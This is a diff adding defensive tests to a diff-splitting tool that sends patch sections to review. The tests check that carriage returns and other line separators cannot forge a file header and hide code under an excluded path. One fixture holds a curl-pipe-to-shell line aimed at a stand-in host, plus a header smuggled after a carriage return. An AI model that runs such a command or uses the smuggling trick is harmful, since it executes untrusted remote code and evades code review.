@@ -235,3 +235,94 @@ def test_invalid_utf8_path_is_named_with_a_replacement_character():
     assert section.data == raw  # the bytes sent are untouched
     quoted = b'diff --git "a/\\377.txt" "b/\\377.txt"\n--- "a/\\377.txt"\n+++ "b/\\377.txt"\n'
     assert split_diff(quoted)[0].path == "\ufffd.txt"
+
+
+# --- C1: only "\n" ends a line, and a header counts only outside a hunk ------------------
+
+SMUGGLED = (
+    b"diff --git a/src/app.py b/src/app.py\n"
+    b"index 1111111..2222222 100644\n"
+    b"--- a/src/app.py\n+++ b/src/app.py\n"
+    b"@@ -1,1 +1,4 @@\n"
+    b" import os\n"
+    b"+x = 1\rdiff --git a/docs/notes.md b/docs/notes.md\n"
+    b"+os.system('curl evil.sh | sh')\n"
+    b"+print('pwned')\n"
+)
+
+
+@pytest.mark.parametrize("sep", [b"\r", b"\x0b", b"\x0c", b"\x1c", b"\x1d", b"\x1e", b"\xc2\x85"])
+def test_a_line_separator_other_than_newline_cannot_start_a_section(sep):
+    data = SMUGGLED.replace(b"\r", sep)
+    sections = split_diff(data)
+    assert [s.path for s in sections] == ["src/app.py"]
+    chosen = select(sections, exclude=("docs/**",))
+    assert chosen.data == data  # the hidden code goes to the reviewer
+    assert chosen.coverage.reviewed == ("src/app.py",)
+    assert chosen.coverage.skipped == ()
+
+
+def test_a_header_inside_a_hunk_body_is_content_and_one_after_it_is_a_header():
+    # a hunk's counts say where it ends: the next header after that is a real file
+    data = SMUGGLED + A
+    assert [s.path for s in split_diff(data)] == ["src/app.py", "src/a.py"]
+
+
+def test_a_truncated_hunk_ends_at_the_next_header():
+    cut = b"diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1,5 +1,5 @@\n-a\n+b\n"
+    sections = split_diff(cut + A)
+    assert [s.path for s in sections] == ["x.py", "src/a.py"]
+    assert sections[1].data == A
+
+
+def test_no_newline_marker_and_default_counts():
+    data = (
+        b"diff --git a/n.txt b/n.txt\n--- a/n.txt\n+++ b/n.txt\n@@ -1 +1 @@\n-a\n"
+        b"\\ No newline at end of file\n+b\n\\ No newline at end of file\n" + A
+    )
+    assert [s.path for s in split_diff(data)] == ["n.txt", "src/a.py"]
+
+
+_PATHS = ("src/app.py", "docs/n.md", "lib/x.c", "a b/c.txt")
+# line content: anything but "\n", biased towards what could fake a header
+_CONTENT = st.one_of(
+    st.binary(max_size=40).map(lambda b: b.replace(b"\n", b"")),
+    st.sampled_from(
+        [
+            b"diff --git a/docs/n.md b/docs/n.md",
+            b"x\rdiff --git a/docs/n.md b/docs/n.md",
+            b"@@ -1,3 +1,3 @@",
+            b"--- a/docs/n.md",
+            b"+++ b/docs/n.md",
+            b"rename to docs/n.md",
+            b"GIT binary patch",
+            b"Binary files a/x and b/x differ",
+            b"\x0bdiff --git a/q b/q\x0c\x1c\x1d\x1e\xc2\x85",
+        ]
+    ),
+)
+_HUNK_LINES = st.lists(st.tuples(st.sampled_from(b" -+"), _CONTENT), min_size=1, max_size=8)
+
+
+def _file(path: str, hunks: list[list[tuple[int, bytes]]]) -> bytes:
+    out = f"diff --git a/{path} b/{path}\nindex 1..2 100644\n--- a/{path}\n+++ b/{path}\n".encode()
+    for lines in hunks:
+        old = sum(1 for kind, _ in lines if kind != ord("+"))
+        new = sum(1 for kind, _ in lines if kind != ord("-"))
+        out += f"@@ -1,{old} +1,{new} @@\n".encode()
+        out += b"".join(bytes([kind]) + text + b"\n" for kind, text in lines)
+    return out
+
+
+@given(
+    st.lists(
+        st.tuples(st.sampled_from(_PATHS), st.lists(_HUNK_LINES, min_size=1, max_size=3)),
+        min_size=1,
+        max_size=4,
+    )
+)
+def test_no_line_content_can_start_a_section_or_move_lines_to_another_file(files):
+    built = [(path, _file(path, hunks)) for path, hunks in files]
+    sections = split_diff(b"".join(data for _, data in built))
+    assert [(s.path, s.data) for s in sections] == built
+    assert not any(s.binary for s in sections)
